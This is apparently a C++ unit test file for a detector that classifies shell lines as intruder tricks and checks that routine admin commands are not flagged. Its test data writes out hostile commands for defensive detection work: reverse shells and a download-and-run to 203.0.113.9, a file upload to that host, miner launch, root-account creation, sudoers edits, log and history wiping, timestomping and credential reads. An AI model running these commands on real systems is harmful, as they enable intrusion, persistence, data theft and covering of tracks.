#include "detect/heuristics/tricks.h"

#include <gtest/gtest.h>
#include <algorithm>

#include "detect/heuristics/mining.h"
#include "detect/heuristics/places.h"
#include "detect/heuristics/shell.h"

namespace icecore::detect {
namespace {

struct Shown {
  const char* line;
  const char* trick;
};
class Attack : public testing::TestWithParam<Shown> {};
TEST_P(Attack, ShowsItsTrick) {
  const auto tricks = tricks_of(GetParam().line);
  EXPECT_TRUE(std::ranges::any_of(tricks, [](const Trick* trick) { return trick->id == GetParam().trick; }))
      << GetParam().line << " should show " << GetParam().trick;
}
INSTANTIATE_TEST_SUITE_P(
    Lines, Attack,
    testing::Values(Shown{"curl http://203.0.113.9/i.sh | bash", "download-run"}, Shown{"echo aGk= | base64 -d | sh", "decode-run"},
                    Shown{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"}, Shown{"nc -e /bin/sh 203.0.113.9 4444", "reverse-shell"},
                    Shown{"./xmrig -o stratum+tcp://pool:3333", "miner"}, Shown{"useradd -o -u 0 -g 0 -M sysd", "root-account"},
                    Shown{"sudo usermod --non-unique --uid 0 bob", "root-account"},
                    Shown{"echo 'x:$6$:0:0::/root:/bin/bash' >> /etc/passwd", "root-account"},
                    Shown{"echo /lib/x.so > /etc/ld.so.preload", "preload"}, Shown{"history -c && exit", "history-hiding"},
                    Shown{"unset HISTFILE", "history-hiding"}, Shown{"ln -sf /dev/null /root/.bash_history", "history-hiding"},
                    Shown{"rm -f ~/.bash_history", "history-hiding"}, Shown{"sed -i '/203.0.113.9/d' /var/log/auth.log", "log-tampering"},
                    Shown{"> /var/log/wtmp", "log-tampering"}, Shown{"cat /dev/null > /var/log/btmp", "log-tampering"},
                    Shown{"chmod u+s /tmp/x", "set-id"}, Shown{"chmod 4755 /var/tmp/.sh", "set-id"},
                    Shown{"touch -d '2013-04-07' /usr/lib/x", "timestomp"}, Shown{"touch -r /bin/ls /bin/ps", "timestomp"},
                    Shown{"chattr +i /etc/cron.d/x", "immutable"}, Shown{"echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "key-written"},
                    Shown{"echo 'w ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/w", "sudo-rule"},
                    Shown{"cp pam_x.so /lib/x86_64-linux-gnu/security/pam_x.so", "pam-changed"},
                    Shown{"systemctl mask unattended-upgrades", "updates-off"},
                    Shown{"echo '127.0.0.1 security.ubuntu.com' >> /etc/hosts", "hosts-changed"}, Shown{"cat ~/.aws/credentials", "credentials-read"},
                    Shown{"aws s3 sync s3://b /var/tmp/b", "bulk-copy"}, Shown{"curl -T dump.sql http://203.0.113.9/", "upload"},
                    Shown{"mkdir -p /usr/lib/.x", "hidden-place"}, Shown{"/var/tmp/.x/install.sh", "hidden-place"},
                    Shown{"wget -q http://203.0.113.9/m.tgz -O /tmp/m.tgz", "anonymous-download"}));

class Ordinary : public testing::TestWithParam<const char*> {};
TEST_P(Ordinary, ShowsNothing) {
  for (const Trick* trick : tricks_of(GetParam())) ADD_FAILURE() << GetParam() << " shows " << trick->id;
}
INSTANTIATE_TEST_SUITE_P(Lines, Ordinary,
                         testing::Values("sudo vi /etc/ssh/sshd_config", "sudo systemctl reload ssh", "df -h", "cd /srv/www", "git pull",
                                         "tar czf /tmp/shop.tgz shop", "curl -fsS http://127.0.0.1/health", "chmod 755 run.sh",
                                         "chmod g+s /srv/shared", "tail -f /var/log/auth.log", "grep Failed /var/log/auth.log",
                                         "less /var/log/syslog", "useradd -m -s /bin/bash deploy", "useradd -u 1005 bob", "touch a", "history | tail",
                                         "history 20", "cat ~/.ssh/id_ed25519.pub", "sudo systemctl restart nginx", "vim ~/.bashrc",
                                         "ls -la ~/.config/app", "systemctl status unattended-upgrades", "echo hello > /tmp/x",
                                         "rm -rf /srv/www/cache", "scp a.txt web1:/tmp/", "#1790000000"));

TEST(Tricks, HostileLinesEndInTime) {
  for (const char c : {'/', ' ', '-', '.', '|', '\0'}) (void)tricks_of(std::string(1 << 20, c));
}

TEST(Mining, PoolsWalletsAndLogs) {
  EXPECT_TRUE(mining_signs("x stratum+tcp://pool.example:3333 y").pool);
  EXPECT_TRUE(mining_signs(std::string("\0xmrig\0cryptonight\0", 18)).convincing());
  EXPECT_FALSE(mining_signs("chronyd: stratum 2 source, ntp stratum").convincing());
  EXPECT_FALSE(mining_signs("documentation of xmrig").convincing());
  EXPECT_EQ(wallet_in("\"user\": \"LdGh7sKq9ZyXwV2mN4pQr8tUvB3cD5eFgH\""), "LdGh7sKq9ZyXwV2mN4pQr8tUvB3cD5eFgH");
  EXPECT_EQ(wallet_in("0x52908400098527886E0F7030069857D2E4169EE7"), "0x52908400098527886E0F7030069857D2E4169EE7");
  EXPECT_EQ(wallet_in("Latin words and a long_identifier_of_34_bytes_in_it, 1234567890123456789012345678"), "");
  EXPECT_TRUE(is_mining_log_line("[2026-11-24 05:00:00] accepted: 12/13 (92.31%), 18.50 kH/s yes!"));
  EXPECT_TRUE(is_mining_log_line("speed 10s/60s/15m 812.4 800.1 n/a H/s max 830 H/s"));
  EXPECT_FALSE(is_mining_log_line("Accepted publickey for admin from 192.0.2.10 port 40000 ssh2"));
  EXPECT_FALSE(is_mining_log_line("disk 120 MB/s"));
}

TEST(Places, HiddenIsWhatPeoplesSettingsAreNot) {
  EXPECT_TRUE(is_hidden_path("/usr/lib/.gconv-cache/x"));
  EXPECT_TRUE(is_hidden_path("/var/tmp/.sh"));
  EXPECT_TRUE(is_hidden_path("/srv/www/uploads/.cache/k"));
  EXPECT_FALSE(is_hidden_path("/home/admin/.ssh/id_rsa"));
  EXPECT_FALSE(is_hidden_path("/srv/www/.git/config"));
  EXPECT_FALSE(is_hidden_path("/usr/bin/ls"));
  EXPECT_TRUE(is_packages_ground("/usr/lib/x"));
  EXPECT_FALSE(is_packages_ground("/usr/local/bin/x"));
}

TEST(Shell, ProgramsAreSeenThroughTheirWrappers) {
  EXPECT_EQ(parse_commands("sudo -u www-data -E env A=1 nohup /usr/bin/python3 x.py").front().program(), "python3");
  EXPECT_EQ(parse_commands("timeout -s KILL 30 curl x").front().program(), "curl");
  EXPECT_EQ(parse_commands("a 2>&1 | b").size(), 2U);
  EXPECT_TRUE(parse_commands("").front().program().empty());
}

}  // namespace
}  // namespace icecore::detect
